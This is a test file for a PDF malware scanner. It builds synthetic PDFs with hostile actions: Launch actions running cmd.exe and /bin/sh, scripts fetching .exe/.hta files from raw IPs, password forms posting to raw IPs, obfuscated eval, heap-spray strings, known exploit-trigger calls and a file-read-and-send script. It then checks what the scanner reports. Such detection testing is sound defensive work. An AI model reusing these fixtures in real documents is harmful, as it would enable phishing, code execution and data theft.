/** Actions of a PDF are found and judged, in whatever way they are written, and ordinary documents are left alone. */

import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { suite, test } from 'node:test'
import { deflateSync } from 'node:zlib'
import { rc4 } from '#inspect/core/rc4.ts'
import { useInspector } from '#inspect/testing/inspector.ts'
import { docx, pdf, program } from '#inspect/testing/samples.ts'
import { ACTIONS_MAX } from './actions.ts'
import { REFERENCES_MAX } from './document.ts'
import { ELEMENTS_MAX, FORM_MAX } from './forms.ts'
import { SCRIPTS_MAX } from './scripts.ts'

const inspector = useInspector()

/** The findings without the family, suspicious and worse first; then the notices in parentheses. */
function found(bytes: Uint8Array): string[] {
  const { findings, obstacle } = inspector.inspect(bytes)
  const shown = findings.map(({ id, severity }) => {
    const name = id.replace('Docvet.', '').replace('Pdf.', '')
    return severity === 'notice' ? `(${name})` : `${name}${severity === 'malicious' ? '!' : ''}`
  })
  return obstacle === null ? shown : [...shown, obstacle.reason]
}

const threats = (bytes: Uint8Array): string[] => found(bytes).filter((name) => !name.startsWith('('))

const catalog = (entries: string): string => `<< /Type /Catalog /Pages 9 0 R ${entries} >>`
const open = (action: string, ...others: string[]): Buffer => pdf([catalog(`/OpenAction ${action}`), ...others])
const click = (action: string, ...others: string[]): Buffer =>
  pdf([catalog(''), `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`, ...others])
const literal = (text: string): string => `(${text.replaceAll(/[\\()]/g, '\\$&')})`
const js = (source: string): string => `<< /S /JavaScript /JS ${literal(source)} >>`
const script = (source: string): Buffer => open(js(source))
function stream(dictionary: string, data: string | Uint8Array): string {
  const text = Buffer.from(data as Uint8Array).toString('latin1')
  return `<< ${dictionary} /Length ${text.length} >>\nstream\n${text}\nendstream`
}

suite('an action', () => {
  const cases: [string, Uint8Array, string[]][] = [
    ['opens a web page after a click', click('<< /S /URI /URI (https://a.example/) >>'), ['(Link)']],
    ['opens a web page by itself', open('<< /S /URI /URI (https://a.example/) >>'), ['RemoteAction']],
    ['loads a program by itself', open('<< /S /URI /URI (https://a.example/b.exe?c=1) >>'), ['AutomaticProgram!']],
    [
      'leads to a script on a server without a name',
      click('<< /S /URI /URI (http://192.0.2.1/a.js) >>'),
      ['ProgramLink'],
    ],
    [
      'calculates a field by itself',
      pdf([
        catalog(`/OpenAction ${js('this.calculateNow()')}`),
        `<< /FT /Tx /T (a) /AA << /C ${js('app.launchURL("http://192.0.2.1/" + "a.exe")')} >> >>`,
      ]),
      ['AutomaticProgram!', '(JavaScript)', '(AutoScript)'],
    ],
    [
      'opens a page of a server program by itself',
      open('<< /S /URI /URI (https://a.example/b.dll) >>'),
      ['RemoteAction'],
    ],
    ['links to a program', click('<< /S /URI /URI (https://a.example/b.exe) >>'), ['(Link)']],
    ['goes to a page', open('[9 0 R /Fit]'), []],
    ['opens another document after a click', click('<< /S /GoToR /F (a.pdf) >>'), []],
    [
      'opens a share of a company after a click',
      click('<< /S /GoToR /F (\\\\\\\\files\\\\a.pdf) >>'),
      ['(Link.CompanyServer)'],
    ],
    ['opens a share after a click', click('<< /S /GoToR /F (\\\\\\\\a.example\\\\b) >>'), ['Link.FileServer']],
    ['opens a share by itself', open('<< /S /GoToE /F (\\\\\\\\a.example\\\\b) /D [0 /Fit] >>'), ['AutomaticShare!']],
    ['opens a share without escapes', open('<< /S /GoToE /F (\\\\a.example\\b) >>'), ['AutomaticShare!']],
    [
      'opens a share by a file specification',
      open('<< /S /Thread /F << /FS /URL /UF <FEFF005C005C0061002E0062005C0063> >> >>'),
      ['AutomaticShare!'],
    ],
    [
      'opens a risky handler by itself',
      open('<< /S /URI /URI (search-ms:query=a&crumb=location:\\\\\\\\a.b\\\\c) >>'),
      ['Link.HandlerAutomatic!'],
    ],
    ['opens the troubleshooter', click('<< /S /URI /URI (ms-msdt:/id a) >>'), ['Link.Troubleshooter!']],
    ['runs a script in an address by itself', open('<< /S /GoToE /F (javascript:a\\(\\)) >>'), ['RemoteAction']],
    [
      'sends a form after a click',
      click('<< /S /SubmitForm /F << /FS /URL /F (https://a.example/) >> >>'),
      ['(SubmitForm)', '(Link)'],
    ],
    [
      'sends a form by itself',
      open('<< /S /SubmitForm /F << /FS /URL /F (https://a.example/) >> >>'),
      ['RemoteAction', '(SubmitForm)'],
    ],
    ['imports data by itself', open('<< /S /ImportData /F (https://a.example/a.fdf) >>'), ['RemoteAction']],
    ['starts a program', click('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), ['LaunchCommand!']],
    [
      'starts a program by its path, without its extension',
      click('<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\mshta) >>'),
      ['LaunchCommand!'],
    ],
    ['starts a program by its file', click('<< /S /Launch /F (tools/setup.exe) >>'), ['LaunchCommand!']],
    [
      'starts a program without an extension',
      click('<< /S /Launch /F << /Type /Filespec /Unix (/bin/sh) >> >>'),
      ['LaunchCommand!'],
    ],
    [
      'starts a file of a server by itself',
      open('<< /S /Launch /F (https://a.example/a.pdf) >>'),
      ['LaunchCommand!', 'RemoteAction'],
    ],
    ['plays a film beside it', click('<< /S /Launch /F (./media/a.mp4) /NewWindow true >>'), ['(LaunchDocument)']],
    ['opens a document beside it', click('<< /S /Launch /F (chapter2.pdf) >>'), ['(LaunchDocument)']],
    ['plays a film by itself', open('<< /S /Launch /F (a.mp4) >>'), ['LaunchFile']],
    ['starts a file of unknown type', click('<< /S /Launch /F (a.mp4.xyz) >>'), ['LaunchFile']],
    ['starts a document with macros', click('<< /S /Launch /F (a.docm) >>'), ['LaunchFile']],
    ['opens a document elsewhere', click('<< /S /Launch /F (/c/a.pdf) >>'), ['(LaunchDocument)']],
    [
      'opens a document of a server',
      click('<< /S /Launch /F (\\\\\\\\a.example\\\\a.pdf) >>'),
      ['LaunchFile', 'Link.FileServer'],
    ],
    ['starts a page', click('<< /S /Launch /F (https://a.example/b) >>'), ['LaunchFile', '(Link)']],
    ['links to a page with a slash too few', click('<< /S /Launch /F (https:/a.example/b) >>'), ['(Link)']],
    ['links to a page in parentheses', click('<< /S /Launch /F (\\(https:/a.example/b\\)) >>'), []],
    [
      'starts a program of a server',
      click('<< /S /Launch /F (https:/a.example/b.exe) >>'),
      ['LaunchCommand!', '(Link)'],
    ],
    [
      'starts a file of a server without a name',
      click('<< /S /Launch /F (https://192.0.2.7/b) >>'),
      ['LaunchFile', '(Link)'],
    ],
    [
      'starts a program and links to a page',
      click('<< /S /Launch /F (https:/a.example/b) /Win << /F (cmd.exe) >> >>'),
      ['LaunchCommand!', '(Link)'],
    ],
    [
      'starts something with arguments',
      click('<< /S /Launch /F (https:/a.example/b) /Win << /P (/c calc) >> >>'),
      ['LaunchCommand!', '(Link)'],
    ],
    ['has a duplicate key', click('<< /S /URI /URI (a) /S /Launch >>'), ['LaunchFile', 'AmbiguousAction']],
    ['is repeated', click('<< /S /URI /URI (a) /S /URI >>'), []],
    [
      'plays a film of a share by itself',
      open('<< /S /Rendition /R << /S /MR /C << /S /MCD /D << /F (\\\\\\\\a.example\\\\b.mp4) >> >> >> >>'),
      ['AutomaticShare!', '(RichMedia)'],
    ],
    [
      'opens a local program by itself',
      open('<< /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>'),
      ['LaunchCommand!'],
    ],
    ['plays a sound', click('<< /S /Sound /Sound 9 0 R >>'), ['(RichMedia)']],
  ]
  for (const [name, bytes, expected] of cases) test(name, () => assert.deepEqual(found(bytes), expected))

  const events: [string, string, string[]][] = [
    ['a page that opens', '<< /Type /Page /AA << /O % >> >>', ['RemoteAction']],
    ['a page that closes', '<< /Type /Page /AA << /C % >> >>', ['RemoteAction']],
    ['a field that is calculated', '<< /FT /Tx /T (a) /AA << /C % >> >>', ['(Link)']],
    ['a field that loses the focus', '<< /FT /Tx /T (a) /AA << /Bl % >> >>', ['(Link)']],
    ['the pointer above an annotation', '<< /Subtype /Link /AA << /E % >> >>', ['RemoteAction']],
    ['an annotation that becomes visible', '<< /Subtype /Screen /AA << /PV % >> >>', ['RemoteAction']],
    ['a document that is printed', '<< /Type /Catalog /AA << /WP % >> >>', ['RemoteAction']],
    ['another action', '<< /OpenAction << /S /GoTo /Next << /S /GoTo /Next [ % ] >> >> >>', ['RemoteAction']],
  ]
  for (const [name, object, expected] of events)
    test(`of ${name}`, () => {
      const action = '<< /S /URI /URI (https://a.example/) >>'
      assert.deepEqual(found(pdf([catalog(''), object.replace('%', action)])), expected)
      assert.deepEqual(found(pdf([catalog(''), object.replace('%', '3 0 R'), action])), expected, 'by reference')
    })
})

test('a relative address belongs to the base of the document', () => {
  const link = (base: string): Uint8Array =>
    pdf([catalog(`/URI << /Base (${base}) >>`), '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (a.js) >> >>'])
  assert.deepEqual(threats(link('http://192.0.2.1/b/')), ['ProgramLink'])
  assert.deepEqual(threats(link('h\\164tp://192.0.2.1')), ['ProgramLink'])
  assert.deepEqual(threats(link('https://a.example/')), [])
})

suite('the events of a field', () => {
  const field = (event: string, source: string, rest = ''): Uint8Array =>
    pdf([catalog(''), `<< /FT /Tx /T (a) ${rest} /AA << /${event} ${js(source)} >> >>`])
  const EXPORT = 'this.exportDataObject({cName: "a", nLaunch: 2})'
  for (const event of ['F', 'C', 'V', 'K', 'Fo', 'Bl'])
    test(`${event} is no consent to start something`, () => {
      assert.deepEqual(threats(field(event, EXPORT)), ['ScriptExport!'])
      assert.deepEqual(threats(field(event, EXPORT.replace('.exportDataObject', '["export" + "DataObject"]'))), [
        'ScriptExport!',
      ])
      assert.deepEqual(threats(field(event, 'app.launchURL("http://192.0.2.1/a.exe")')), ['AutomaticProgram!'])
      assert.deepEqual(threats(field(event, 'event.value = AFMakeNumber(getField("b").value) * 2')), [])
      assert.deepEqual(threats(field(event, 'app.launchURL("https://a.example/help")')), [])
    })
  for (const event of ['D', 'U'])
    test(`${event} is a click, unless the field is as large as a page`, () => {
      assert.deepEqual(threats(field(event, EXPORT, '/Rect [0 0 90 20]')), [])
      assert.deepEqual(threats(field(event, EXPORT, '/Rect [0 0 600 700]')), ['ScriptExport!'])
    })
  test('of an XFA form', () => {
    const form = (activity: string): Uint8Array =>
      pdf([
        catalog('/AcroForm << /XFA 2 0 R >>'),
        stream(
          '',
          `<xdp:xdp><field><event activity="${activity}"><script contentType="application/x-javascript">${EXPORT}</script></event></field></xdp:xdp>`,
        ),
      ])
    assert.ok(threats(form('exit')).includes('ScriptExport!'))
    assert.ok(!threats(form('click')).includes('ScriptExport!'))
  })
})

suite('a form with a password', () => {
  const send = (address: string) => `<< /S /SubmitForm /F << /FS /URL /F (${address}) >> >>`
  const field = (name: string, rest = '') => `<< /Subtype /Widget /FT /Tx /T ${name} ${rest} >>`
  const form = (action: string, ...fields: string[]) =>
    pdf([catalog(''), `<< /Subtype /Widget /FT /Btn /Ff 65536 /T (ok) /A ${action} >>`, ...fields])
  const secret = field('(a)', '/Ff 8192')
  const login = [field('(email)'), field('(password)')]
  const registration = ['(name)', '(street)', '(city)', '(e-mail)'].map((name) => field(name))
  const NAMELESS = 'http://203.0.113.5/p'
  const cases: [string, Uint8Array, string[]][] = [
    ['goes to a server without a name', form(send(NAMELESS), secret), ['Phishing!']],
    ['goes there by a script', form(js('this.submitForm("ht" + "tp://203.0.113.5/p")'), ...login), ['Phishing!']],
    [
      'has a name in UTF-16 and flags elsewhere',
      form(send(NAMELESS), field('<FEFF0061>', '/Ff 5 0 R'), '8192', '8192'),
      ['Phishing!'],
    ],
    ['is for a mailbox', form(send('http://a.example.com/p'), ...login), ['Phishing!']],
    [
      'says so in its hint',
      form(send('http://a.example.com/p'), ...registration, field('(b)', '/Ff 8192 /TU (Outlook)')),
      ['Phishing!'],
    ],
    ['is one of many fields', form(send('http://a.example.com/p'), ...registration, secret), ['PasswordForm']],
    ['goes to an encrypted server', form(send('https://a.example.com/p'), ...login), []],
    ['goes to a server of the company', form(send('http://10.1.2.3/p'), ...login), []],
    ['is missing', form(send(NAMELESS), ...registration, field('(passport)')), []],
  ]
  for (const [name, bytes, expected] of cases) test(name, () => assert.deepEqual(threats(bytes), expected))

  test('in XML', () => {
    const xml = (target: string) =>
      threats(
        pdf([
          catalog('/AcroForm << /XFA 2 0 R >>'),
          stream('', `<field><ui><passwordEdit/></ui></field><event><submit target="${target}"/></event>`),
        ]),
      )
    assert.deepEqual(xml(NAMELESS), ['Phishing!'])
    assert.deepEqual(xml('https://a.example.com/p'), [])
  })
})

suite('a script', () => {
  const cases: [string, Uint8Array, string[]][] = [
    ['shows a message', script('app.alert("Hello")'), []],
    ['prints', script('this.print({bUI: true})'), []],
    [
      'formats a field',
      pdf([catalog(''), `<< /FT /Tx /T (a) /AA << /F ${js('AFNumber_Format(2, 0, 0, 0, "", true)')} >> >>`]),
      [],
    ],
    ['opens an address by itself', script('app.launchURL("https://a.example/")'), ['ScriptNetwork']],
    ['loads a script by itself', script('app.launchURL("https://a.exam" + "ple/b.hta", true)'), ['AutomaticProgram!']],
    ['opens an address after a click', click(js('app.launchURL("https://a.example/")')), []],
    ['sends a form after a click', click(js('this.submitForm({cURL: "https://a.example/"})')), []],
    [
      'has a function for a button',
      script('function help() { app.openDoc("\\\\\\\\a.example\\\\b") }'),
      ['Link.FileServer'],
    ],
    ['opens a local document', script('app.openDoc("/c/a.pdf")'), []],
    ['opens an address that it only knows when it runs', script('this.getURL(address)'), []],
    [
      'opens a remote document after a click',
      click(js('app.openDoc({cPath: encodeURI("https://a.example/"), cFS: "CHTTP"})')),
      ['ScriptNetwork'],
    ],
    [
      'opens an address of computed letters',
      script(
        'var n=[72,84,84,80,83,26,15,15,66,65,78,75,13,67,65,83,69,14,67,79,77,15];var s="";for(var i=0;i<n.length;i++)s+=String.fromCharCode(n[i]^32);app["launch"+"URL"](s,true)',
      ),
      ['ScriptHidden!', 'ScriptNetwork'],
    ],
    [
      'sends to an address that is turned round',
      script('this.submitForm("moc.esac-knab//:sptth".split("").reverse().join(""))'),
      ['ScriptHidden!', 'ScriptNetwork'],
    ],
    [
      'opens an address of a server and a path',
      script(
        'var server="forms.insurer.example";var p=["a","b"].join("/");app.launchURL("https://"+server+"/"+p,true)',
      ),
      ['ScriptNetwork'],
    ],
    ['asks a server', script('SOAP.request({cURL: "https://a.example/", oRequest: {}})'), ['ScriptNetwork']],
    ['loads a picture', script('var i = new Image(); i.src = "https://a.example/"'), ['ScriptNetwork']],
    ['reaches a share', script('SOAP.connect("\\\\\\\\a.example\\\\b")'), ['AutomaticShare!']],
    ['starts an attachment', script('this.exportDataObject({cName: "a", nLaunch: 2})'), ['ScriptExport!']],
    [
      'starts an attachment by a built name',
      script('this["export" + "DataObject"]({cName: "a", nLaunch: 1 + 1})'),
      ['ScriptExport!'],
    ],
    ['opens its own attachment after a click', click(js('this.exportDataObject({cName: "a.pdf", nLaunch: 2})')), []],
    [
      'has machine code',
      script('var s = unescape("%u9090%u9090%u6afc%u4deb"); eval(s)'),
      ['ScriptExploit!', 'ScriptHidden!'],
    ],
    ['has machine code as escapes', script(`var s = "${'\\u9090'.repeat(4)}"`), ['ScriptExploit!']],
    [
      'has Chinese text as codes',
      script('app.alert(unescape("%u4f60%u597d%u4e16%u754c%u4f60%u597d%u4e16%u754c"))'),
      [],
    ],
    [
      'has Russian text as escapes',
      script(String.raw`app.alert("\u0437\u0434\u0440\u0430\u0432\u0441\u0442\u0432\u0443\u0439\u0442\u0435")`),
      [],
    ],
    ['calls an exploit', script('Collab.getIcon("a".repeat(9))'), ['ScriptExploit!']],
    ['formats a number', script('util.printf("%.2f", 1)'), []],
    ['formats a number beyond measure', script('util.printf("%45000f", 1)'), ['ScriptExploit!']],
    ['runs built text', script('eval("app.al" + "ert(1)")'), ['ScriptHidden!']],
    [
      'runs text that hides an address',
      script('eval(\'app.launchURL("https://a.example/")\')'),
      ['ScriptHidden!', 'ScriptNetwork'],
    ],
    ['runs text from a field', script('eval(this.getField("a").value)'), ['ScriptHidden!']],
    [
      'runs text from an annotation',
      script('var a = this.getAnnots({nPage: 0}); eval(unescape(a[0].subject.replace(/z/g, "%")))'),
      ['ScriptHidden!'],
    ],
    [
      'runs text from an annotation by a hidden name',
      script('var a = app.doc.getAnnots({nPage: 0}); app["ev" + "al"](unescape(a[0].subject.replace(/x/g, "%")))'),
      ['ScriptHidden!'],
    ],
    [
      'runs text from the properties',
      pdf([
        catalog(`/OpenAction ${js('eval(this.info.title.split("").reverse().join(""))')}`),
        '<< /Title (\\)1\\(trela.ppa) >>'.replaceAll('\\\\', '\\'),
      ]),
      ['ScriptHidden!'],
    ],
    ['runs text by itself', script('eval("app.alert(1)")'), ['ScriptObfuscated']],
    ['calculates after a click', click(js('event.value = eval(this.getField("a").value)')), []],
    ['sets a timer', script('app.setTimeOut("show(" + 1 + ")", 100)'), []],
    [
      'reads and sends a file',
      script('var s = util.readFileIntoStream("/a"); SOAP.request({cURL: "https://a.example/", oRequest: {s: s}})'),
      ['ScriptFileTheft!', 'ScriptNetwork'],
    ],
    [
      'declares an entity',
      script('XMLData.parse("<!DOCTYPE a [<!ENTITY b SYSTEM \'https://a.example/\'>]><a/>")'),
      ['XfaExternal'],
    ],
    [
      'in a name tree',
      pdf([catalog('/Names << /JavaScript << /Names [(a) 2 0 R] >> >>'), js('app.launchURL("https://a.example/")')]),
      ['ScriptNetwork'],
    ],
    [
      'in a deep name tree',
      pdf([
        catalog('/Names 2 0 R'),
        '<< /JavaScript 3 0 R >>',
        '<< /Kids [4 0 R] >>',
        '<< /Names [(a) 5 0 R] >>',
        js('app.launchURL("https://a.example/")'),
      ]),
      ['ScriptNetwork'],
    ],
    [
      'in a stream',
      open(
        '<< /S /JavaScript /JS 2 0 R >>',
        stream('/Filter /FlateDecode', deflateSync('app.launchURL("https://a.example/")')),
      ),
      ['ScriptNetwork'],
    ],
    [
      'under three encodings',
      open(
        '<< /S /JavaScript /JS 2 0 R >>',
        stream(
          '/Filter [/AHx /AHx /AHx]',
          `${Buffer.from(`${Buffer.from(`${Buffer.from('app.alert(1)').toString('hex')}>`).toString('hex')}>`).toString('hex')}>`,
        ),
      ),
      ['FilterChain'],
    ],
    [
      'calls a function of another script',
      pdf([
        catalog(
          `/OpenAction ${js('go("https://a.example/")')} /Names << /JavaScript << /Names [(a) ${js('function go(u) { app.launchURL(u) }')}] >> >>`,
        ),
      ]),
      ['ScriptNetwork'],
    ],
    [
      'takes its code from a field',
      pdf([
        catalog(
          `/OpenAction ${js('eval(util.stringFromStream(util.streamFromString(getField("b").value), "base64"))')} /AcroForm << /Fields [<< /T (b) /V (${Buffer.from('app.launchURL("https://a.example/")').toString('base64')}) >>] >>`,
        ),
      ]),
      ['ScriptHidden!', 'ScriptNetwork'],
    ],
    [
      'of a 3D model',
      pdf([catalog(''), '<< /Type /3D /OnInstantiate 3 0 R >>', stream('', 'fetch("https://a.example/")')]),
      ['ScriptNetwork'],
    ],
  ]
  for (const [name, bytes, expected] of cases) test(name, () => assert.deepEqual(threats(bytes), expected))
})

suite('an action is found', () => {
  const target = 'app.launchURL("https://a.example/")'
  const packed = (objects: string, header = '5 0 6 0 '): string =>
    stream(`/Type /ObjStm /N 2 /First ${header.length} /Filter /FlateDecode`, deflateSync(`${header}${objects}`))
  const cases: [string, Uint8Array][] = [
    ['with a text in hexadecimal', open(`<< /S /JavaScript /JS <${Buffer.from(target).toString('hex')}> >>`)],
    [
      'with a text in octal',
      open(`<< /S /JavaScript /JS (${[...target].map((char) => `\\${char.charCodeAt(0).toString(8)}`).join('')}) >>`),
    ],
    [
      'with a text in UTF-16',
      open(`<< /S /JavaScript /JS <feff${Buffer.from(target, 'utf16le').swap16().toString('hex')}> >>`),
    ],
    ['with a text in an object of its own', open('<< /S /JavaScript /JS 2 0 R >>', literal(target))],
    ['with its type in an object of its own', open('<< /S 2 0 R /JS 3 0 R >>', '/JavaScript', literal(target))],
    ['in an object', open('2 0 R', js(target))],
    ['in an object of an object', open('2 0 R', '3 0 R', js(target))],
    ['in an object stream', open('5 0 R', packed(js(target), '5 0 6 1 '))],
    ['in the trailer', pdf([], `/Root << /Pages << >> /OpenAction ${js(target)} >>`)],
    [
      'after the header',
      Buffer.from(`%PDF-xref 0 0 trailer<</Root<</Pages<<>>/OpenAction${js(target)}>>>> startxref 5%%EOF`),
    ],
    ['in a dictionary without an end', pdf([`<< /Type /Catalog /OpenAction << /S /JavaScript /JS ${literal(target)}`])],
    ['behind a header in a string', pdf([`<< /Type /Catalog /A (2 0 obj) /OpenAction ${js(target)} >>`])],
    ['in an earlier revision', Buffer.concat([script(target), pdf([catalog('')])])],
    ['in a list', open(`[${js(target)}]`)],
    ['after another action', open(`<< /S /GoTo /D [0 /Fit] /Next 2 0 R >>`, js(target))],
    ['behind a comment', open(`<< /S %a\n/JavaScript /JS %b (\n${literal(target)} >>`)],
    ['in a decrypted file', encrypted(target)],
  ]
  for (const [name, bytes] of cases) test(name, () => assert.deepEqual(threats(bytes), ['ScriptNetwork']))
  test('if its type is an object that others share', () => {
    const bytes = pdf([catalog(''), '<< /Subtype /Link /A 3 0 R >>', '<< /S 4 0 R /F (cmd.exe) >>', '/Launch'])
    assert.deepEqual(threats(bytes), ['LaunchCommand!'])
  })
})

/** 40-bit RC4 with an empty password. */
function encrypted(source: string): Buffer {
  const padding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex')
  const md5 = (...parts: Uint8Array[]): Buffer => createHash('md5').update(Buffer.concat(parts)).digest()
  const owner = Buffer.alloc(32, 7)
  const key = md5(padding, owner, Buffer.from([0xfc, 0xff, 0xff, 0xff]), Buffer.from('01020304', 'hex')).subarray(0, 5)
  const objectKey = md5(key, Buffer.from([1, 0, 0, 0, 0])).subarray(0, 10)
  const sealed = rc4(objectKey, Buffer.from(source)).toString('hex')
  const dictionary = `/Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${rc4(key, padding).toString('hex')}> /P -4`
  return pdf(
    [catalog(`/OpenAction << /S /JavaScript /JS <${sealed}> >>`), `<< ${dictionary} >>`],
    '/Encrypt 2 0 R /ID [<01020304> <01020304>]',
  )
}

test('an action is found after thousands of others', () => {
  const chain = Array.from({ length: 3000 }, (_, i) => `<< /S /GoTo /D [0 /Fit] /Next ${i + 3} 0 R >>`)
  assert.deepEqual(threats(open('2 0 R', ...chain, '<< /S /URI /URI (https://a.example/) >>')), ['RemoteAction'])
})

suite('a name with codes', () => {
  const cases: [string, Uint8Array, string[]][] = [
    [
      'that needs none, of an action',
      pdf([catalog(`/Open#41ction << /S /Java#53cript /#4a#53 (app.alert\\(1\\)) >>`)]),
      ['HiddenAction!'],
    ],
    [
      'in an object stream',
      pdf([
        stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync('5 0 << /S /L#61unch /F (a.pdf) >>')),
      ]),
      ['HiddenAction!'],
    ],
    ['of a filter', pdf([catalog(''), stream('/Filter /#46lateDecode', deflateSync('BT ET'))]), ['HiddenName']],
    ['that needs them', pdf([catalog(''), '<< /Subtype /text#2Fplain /Font << /A#20B 9 0 R /#e4 9 0 R >> >>']), []],
    ['that does not matter', pdf([catalog(''), '<< /BaseFont /Ari#61l >>']), []],
  ]
  for (const [name, bytes, expected] of cases) test(name, () => assert.deepEqual(threats(bytes), expected))
})

suite('a form in XML', () => {
  const form = (xml: string): Buffer => pdf([catalog('/AcroForm << /XFA 2 0 R >>'), stream('', xml)])
  const event = (activity: string, inner: string): string =>
    `<template><field><event activity="${activity}">${inner}</event></field></template>`
  const post = '<script contentType="application/x-formcalc">Post("https://a.example/", "a")</script>'
  const cases: [string, Uint8Array, string[]][] = [
    ['with a calculation', form(event('calculate', '<script>this.rawValue = 1 + 2</script>')), []],
    ['that sends by itself', form(event('initialize', post)), ['ScriptNetwork']],
    ['that sends after a click', form(event('click', post)), []],
    [
      'with escaped characters',
      form(event('initialize', '<script>app.launchURL(&quot;https://&#x61;.example/&quot;)</script>')),
      ['ScriptNetwork'],
    ],
    [
      'in parts',
      pdf([
        catalog('/AcroForm << /XFA [(a) 2 0 R (b) 3 0 R] >>'),
        stream('', '<template><event activity="initialize"><scr'),
        stream('', `ipt>app.launchURL("https://a.example/")</script></event></template>`),
      ]),
      ['ScriptNetwork'],
    ],
    [
      'that submits by itself',
      form(event('initialize', '<submit target="https://a.example/"/>')),
      ['XfaExternal', 'RemoteAction'],
    ],
    ['that submits after a click', form(event('click', '<submit target="https://a.example/"/>')), []],
    ['with an entity', form('<!DOCTYPE a [<!ENTITY b SYSTEM "https://a.example/">]><xdp>&b;</xdp>'), ['XfaExternal']],
    [
      'with a style sheet of a share',
      form('<?xml-stylesheet href="\\\\a.example\\b.xsl" type="text/xsl"?><xdp/>'),
      ['AutomaticShare!', 'XfaExternal'],
    ],
    [
      'in UTF-16',
      pdf([
        catalog('/AcroForm << /XFA 2 0 R >>'),
        stream('', Buffer.from(event('initialize', '<script>app.launchURL("https://a.example/")</script>'), 'utf16le')),
      ]),
      ['ScriptNetwork'],
    ],
    ['with a namespace', form('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><config/></xdp:xdp>'), []],
  ]
  for (const [name, bytes, expected] of cases) test(name, () => assert.deepEqual(threats(bytes), expected))
})

suite('a stream', () => {
  const metadata = (xml: string): Buffer =>
    pdf([catalog('/Metadata 2 0 R'), stream('/Type /Metadata /Subtype /XML', xml)])
  const font = (matrix: string): Buffer =>
    pdf([catalog(''), `<< /Type /Font /Subtype /Type1 /FontMatrix ${matrix} >>`, '(a)'])
  const file = (name: string, data: string | Uint8Array): Buffer =>
    pdf([catalog(''), `<< /Type /Filespec /F (${name}) /EF << /F 3 0 R >> >>`, stream('/Type /EmbeddedFile', data)])
  const cases: [string, Uint8Array, string[]][] = [
    ['with metadata', metadata('<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"/>'), []],
    [
      'with metadata that declares an entity',
      metadata('<!DOCTYPE a [<!ENTITY b SYSTEM "https://a.example/">]><a>&b;</a>'),
      ['XfaExternal'],
    ],
    ['in a file of a share', pdf([catalog(''), stream('/F (\\\\\\\\a.example\\\\b.jpg)', '')]), ['AutomaticShare!']],
    [
      'in a file of a server',
      pdf([catalog(''), stream('/F << /FS /URL /F (https://a.example/b) >>', '')]),
      ['RemoteAction'],
    ],
    [
      'with a calculation',
      pdf([catalog(''), stream('/FunctionType 4 /Domain [0 1]', '{ dup 2 mul exch sub % a (b)\n }')]),
      [],
    ],
    [
      'with another function',
      pdf([catalog(''), stream('/FunctionType 4 /Domain [0 1]', '{ fetch("https://a.example/") }')]),
      ['FunctionCode'],
    ],
    ['with an ordinary font', font('[0.001 0 0 0.001 0 0]'), []],
    ['with code in a font', font('[1 2 3 4 5 (0\\); alert\\(1\\))]'), ['FontCode!']],
    ['with code in a font by reference', font('[1 2 3 4 5 3 0 R]'), ['FontCode!']],
    [
      'with code in a font program',
      pdf([catalog(''), stream('/Length1 99', '%!PS-AdobeFont\n/FontMatrix [1 2 3 4 5 (a)] readonly def')]),
      ['FontCode!'],
    ],
    ['with a text file', file('a.txt', 'Hello'), []],
    ['with a program', file('a.txt', program()), ['Embedded.Executable!', 'EmbeddedProgram!']],
    ['with a script by its name', file('a.vbs', 'MsgBox 1'), ['EmbeddedProgram!']],
    ['with a document', file('a.docx', docx()), []],
    ['with a film', file('a.swf', 'FWS'), []],
  ]
  for (const [name, bytes, expected] of cases)
    test(name, () =>
      assert.deepEqual(
        threats(bytes)
          .filter((each) => each !== 'too_complex')
          .sort(),
        [...expected].sort(),
      ),
    )
  test('with a document with macros', () => {
    assert.ok(threats(file('a.docm', docx())).includes('EmbeddedMacros'))
    assert.ok(threats(file('a.doc', docx({ 'word/vbaProject.bin': 'a' }))).includes('EmbeddedMacros'))
  })
  test('with an impossible number of colours', () => {
    const of = (colors: number) =>
      threats(
        pdf([
          catalog(''),
          stream(`/Filter /FlateDecode /DecodeParms << /Colors ${colors} /Predictor 2 >>`, deflateSync('a')),
        ]),
      )
    assert.ok(of(16_777_217).includes('OddColors'))
    assert.ok(!of(16_777_216).includes('OddColors'))
  })
  test('with a picture in JBIG2', () => {
    assert.deepEqual(
      found(pdf([catalog(''), stream('/Subtype /Image /Width 1 /Height 1 /Filter /JBIG2Decode', 'a')])),
      ['(Jbig2)', '(Qr.Unread)'],
    )
  })
})

suite('besides objects', () => {
  const plain = pdf([catalog('')])
  const cases: [string, Uint8Array, string[]][] = [
    ['a byte order mark', Buffer.concat([Buffer.from('\ufeff'), plain]), []],
    ['data before', Buffer.concat([Buffer.alloc(300, 'data '), plain]), ['(DataBefore)']],
    ['some data after', Buffer.concat([plain, Buffer.alloc(499, 'a')]), []],
    ['more data after', Buffer.concat([plain, Buffer.alloc(500, 'a')]), ['(DataAfter)']],
    [
      'a page with a script after',
      Buffer.concat([plain, Buffer.from('<html><script>a()</script>')]),
      ['SecondDocument'],
    ],
    ['a page', Buffer.concat([plain, Buffer.from('<html><p>Hello</p></html>')]), ['SecondDocument']],
    [
      'a page with a script',
      Buffer.concat([Buffer.from('<html><script>a()</script><!--'), plain]),
      ['HiddenDocument!', '(DataBefore)', '(Html.Script)'],
    ],
    ['a page in an object', pdf([catalog(''), '(<html><script>a()</script>)']), []],
    ['a page in a stream', pdf([catalog(''), stream('', '<html><script>a()</script>')]), []],
    ['an annotation with text', pdf([catalog(''), '<< /Type /Annot /Contents (a <b> c) /T (<img>) >>']), []],
    [
      'an annotation with code',
      pdf([catalog(''), '<< /Type /Annot /T (<img src="https://a.example/">) >>']),
      ['MarkupText'],
    ],
    [
      'an annotation with coded code',
      pdf([catalog(''), '<< /Type /Annot /T (\\074img src=1 onerror=a\\(\\)>) >>']),
